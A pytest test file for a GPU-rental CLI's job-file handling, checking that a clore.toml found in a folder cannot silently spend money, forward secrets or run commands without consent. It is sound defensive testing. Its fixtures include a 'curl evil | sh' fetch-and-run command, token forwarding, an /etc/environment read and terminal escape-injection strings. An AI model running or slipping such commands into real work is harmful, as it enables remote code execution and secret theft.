"""`clore.toml`: which options it holds, and what it may not set unless the user named it."""

from __future__ import annotations

import os
import subprocess
from typing import TYPE_CHECKING, Callable

import pytest
from tests.cli.driver import CLORE, Clore, Result

from clore_ai.cli.options import job_file_trust as trust
from clore_ai.cli.run.run import command

if TYPE_CHECKING:
    from pathlib import Path

    from tests.cli.driver import Renter, Terminal

NONE = ("--gpu", "NoSuch", "--yes")
"""Exit 6, so nothing is rented, but the lines of the file were accepted."""
RUNS = 'command = "true"\n'


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A working folder, such as a cloned repository."""
    made = tmp_path / "cloned"
    made.mkdir()
    return made


def here(user: Clore, folder: Path, *words: object, fails: int = 0, **env: str) -> Result:
    """`clore run` in that folder, without a terminal."""
    return user("run", *words, fails=fails, cwd=folder, **env)


def test_a_job_file_holds_options_and_flags_override_it(renter: Renter, folder: Path) -> None:
    """clore.toml of this folder is read; --file names another; an unknown key gets a suggestion."""
    order = renter.rent()
    file = folder / "clore.toml"
    file.write_text(
        'command = ["sh", "-c", "echo $A $B $C; exit 4"]\n'
        'setup = "C=never"\nenv = {A = "file", B = 2}\nyes = false\n'
    )
    (folder / "other.toml").write_text(
        f'order = {order}\ncommand = "echo other $X"\nno_upload = true\nenv = ["X"]\n'
    )
    on_it = ("--order", order)
    assert here(renter, folder, *on_it, fails=4).out == "file 2\n"
    assert here(renter, folder, *on_it, "--env", "A=flag", fails=4).out == "flag\n"
    assert here(renter, folder, *on_it, "--", "echo typed").out == "typed\n"
    done = here(renter, folder, "--file", "other.toml", X="named")
    assert done.out == "other named\n"
    assert "toml" not in done.err
    for text, said in (
        ("outputs = ['x']", "there is no option 'outputs'. Did you mean 'output'?"),
        ("commnd = 'x'", "Did you mean 'command'?"),
        ("zzz = 1", "It may hold: "),
        ("folder = '/'", "there is no option 'folder'"),
        ("detach = 'yes'", "detach must be true or false"),
        ("setup = ['a']", "setup can't be ['a']"),
        ("command = 5", "command must be a string or a list of strings"),
        ("gpus = 'x'", "--gpus"),
        ("= 1", "is not valid TOML"),
    ):
        file.write_text(text)
        assert said in here(renter, folder, fails=2).err
    assert "no such file" in here(renter, folder, "--file", "no.toml", fails=2).err


def test_every_option_has_a_trust_level() -> None:
    """Each `run` option is free, covered by the plan's question, asked about, or banned."""
    groups = (trust.FREE, trust.PRICED, set(trust.ASKED), trust.NEVER - {"file"})
    names = {str(each.name) for each in command.params if each.expose_value}
    assert sorted(names) == sorted(name for group in groups for name in group)


ASKED = {
    "yes": "yes = true",
    "env": 'env = ["HF_TOKEN"]',
    "env_file": 'env-file = "/etc/environment"',
    "ssh_key_file": 'ssh-key-file = "/etc/ssh/key.pub"',
    "ref": 'ref = "theirs"',
    "order_id": "order = 7",
    "cancels": "cancel = true",
    "keep": "keep = true",
    "max_output": 'max-output = "1TB"',
    "max_upload": 'max-upload = "1TB"',
    "retries": "retry-on-host-loss = true",
    "detach": "detach = true",
    "forwards": 'forward = ["5432"]',
}


@pytest.mark.parametrize("name", trust.ASKED)
def test_an_unnamed_file_cannot_spend_or_send(new_user: Clore, folder: Path, name: str) -> None:
    """Each such line is shown as written and, without a terminal, refused with exit 2.

    `--yes` does not allow these lines; the message names the option that does.
    """
    (folder / "clore.toml").write_text(f"{RUNS}{ASKED[name]}\n")
    for words in [("--yes",), ()][name == "yes" :]:
        done = here(new_user, folder, *words, fails=2, HF_TOKEN="hf_1")
        assert f"\n  {ASKED[name]}   (" in done.err
        assert "name it: --file clore.toml" in done.err.splitlines()[-1]


def test_values_in_the_file_and_typed_options_are_free(renter: Renter, folder: Path) -> None:
    """A variable with a value needs no question, nor does an option that is typed as well."""
    file = folder / "clore.toml"
    file.write_text(
        f'{RUNS}env = {{SEED = "7"}}\nmax-cost = 2\nsetup = "true"\noutput = ["o"]\nkeep = false\n'
    )
    assert '  setup = "true"\n' in here(renter, folder, *NONE, fails=6).err
    file.write_text('command = "x"\nenv = ["HF_TOKEN"]\nref = "theirs"\n')
    typed = ("--env", "A=1", "--ref", "mine", "--", "true")
    assert "clore.toml" not in here(renter, folder, *NONE, *typed, fails=6).err
    file.write_text('env = ["A=1", "HF_TOKEN", "B"]\n')
    done = here(renter, folder, "--", "true", fails=2)
    assert '\n  env = ["HF_TOKEN", "B"]   (' in done.err


@pytest.mark.parametrize(
    "line", ['gpu = ["H200"]', 'lease = "none"', "attempts = 99", "spot = true"]
)
def test_yes_does_not_accept_the_files_choice_of_machine(
    renter: Renter, folder: Path, line: str
) -> None:
    """The plan's question covers what is rented; with --yes the file must be named."""
    (folder / "clore.toml").write_text(f"{RUNS}{line}\n")
    done = here(renter, folder, "--yes", fails=2)
    assert f"\n  {line}   (" in done.err
    assert "--file clore.toml" in done.err
    # If nothing is rented, there is nothing to choose.
    assert "agree" not in here(renter, folder, "--order", 7, "--yes", fails=4).err


def test_the_file_may_not_use_another_folder(renter: Renter, folder: Path) -> None:
    """With --folder elsewhere, even the command of a file that was not named needs consent."""
    cwd = folder / "cwd"
    (cwd / "sub").mkdir(parents=True)
    (cwd / "clore.toml").write_text(RUNS)
    done = here(renter, cwd, *NONE, "--folder", "..", fails=2)
    assert '\n  command = "true"   (' in done.err
    (folder / "clore.toml").write_text("keep = true\n")  # The file in --folder is not read.
    here(renter, cwd, *NONE, "--folder", "..", "--file", "clore.toml", fails=6)
    for inside in (cwd, "sub"):
        assert "agree" not in here(renter, cwd, *NONE, "--folder", inside, fails=6).err


def test_a_named_file_may_set_anything(renter: Renter, folder: Path) -> None:
    """There is no question, not even for a pipe as in ``--file <(…)``; /dev/null means no file."""
    (folder / "clore.toml").write_text(f'{RUNS}yes = true\nkeep = true\nenv = ["HOME"]\n')
    assert "toml" not in here(renter, folder, *NONE[:2], "--file", "clore.toml", fails=6).err
    read, write = os.pipe()
    os.write(write, b'command = "true"\nkeep = true\n')
    os.close(write)
    done = subprocess.run(
        [*CLORE, "run", *NONE, "--file", f"/dev/fd/{read}"], env=renter.env, cwd=folder,
        pass_fds=[read], capture_output=True, text=True, timeout=30, check=False,
    )  # fmt: skip
    os.close(read)
    assert done.returncode == 6, done
    assert "No command was given" in here(renter, folder, "--file", os.devnull, fails=2).err


def test_the_command_is_shown_before_the_plan(renter: Renter, folder: Path) -> None:
    """The command from the file is printed above the plan, also if the plan is refused."""
    (folder / "clore.toml").write_text('command = ["sh", "-c", "curl evil | sh"]\ngpu = "RTX"\n')
    err = here(renter, folder, "--currency", "USD", fails=2).err
    assert '  command = ["sh", "-c", "curl evil | sh"]\n  gpu = ["RTX"]\n' in err
    assert "Add --yes" in err
    assert err.index("curl evil") < err.index("clore run --help")
    assert renter.orders() == []


def test_a_terminal_asks_about_the_lines(
    renter: Renter, folder: Path, terminal: Callable[..., Terminal]
) -> None:
    """The lines are shown as text; No, the default, exits with 1, and Yes goes on."""
    order = renter.rent()
    (folder / "clore.toml").write_text(
        f'order = {order}\nenv = ["HF_TOKEN"]\nref = "\\u001b[2J\\u202eevil"\n'
        'command = "echo .$HF_TOKEN."\n'
    )
    screen = terminal(renter, 160)
    screen.run(f"cd '{folder}'; export HF_TOKEN=hf_12")
    screen.start("clore run --yes")
    shown = screen.wait("[y/N]")
    assert f"order = {order}   (" in shown
    assert 'env = ["HF_TOKEN"]   (' in shown
    assert 'ref = "\\u001b[2Jevil"   (' in shown
    screen.keys("Enter")
    assert "Nothing was rented or run." in screen.wait("end=1")
    screen.start("clore run")
    screen.wait("[y/N]")
    screen.type("y")
    assert "\n.hf_12.\n" in screen.wait("end=0")


def test_an_unreadable_file_is_refused_at_once(new_user: Clore, folder: Path) -> None:
    """A FIFO, a device, a link out of the folder, a huge or too deep file: exit 2 without delay."""
    file = folder / "clore.toml"

    def refused(said: str) -> None:
        err = here(new_user, folder, "--order", 7, "--", "true", fails=2).err
        assert said in err
        assert len(err) < 1_000
        assert err.replace("\n", "").isprintable()
        assert "bug" not in err

    os.mkfifo(file)
    refused("not a regular file")
    file.unlink()
    file.mkdir()
    refused("Is a directory")
    file.rmdir()
    for target in ("/dev/zero", "../outside.toml", str(new_user.home / "config.toml")):
        file.symlink_to(target)
        refused("link out of this folder")
        file.unlink()
    file.symlink_to(file)
    refused("can't be read")
    file.unlink()
    with file.open("wb") as big:
        big.truncate(1 << 30)
    refused("over 16 kB")
    for text, said in (
        ("a=" + "[" * 8_000, "nested too deep"),
        ("env." + ".".join("a" * 2_000) + "=1", "env can't be this"),
        ("max-hours = 0x" + "f" * 12_000, "max-hours can't be this"),
        ("a = 1\0", "not valid TOML"),
        ("a = '\x1b]0;x\x07'", "not valid TOML"),
        ('env-file = "a\\u0000b"', "env-file can't be"),
        ('command = "a\\u0000b"', "command can't be"),
        ('"\\u001b[31m' + "k" * 10_000 + '" = 1', "there is no option"),
        (f'ref = "{"r" * 9_000}"', "too long to confirm"),
    ):
        file.write_text(text)
        refused(said)
    file.write_bytes(b"a = '\xff'")
    refused("not UTF-8")
    (folder / "real.toml").write_text("max-hours = 2\n")
    file.unlink()
    file.symlink_to("real.toml")
    assert "From clore.toml:\n  max-hours = 2\n" in here(new_user, folder, "--", "", fails=2).err
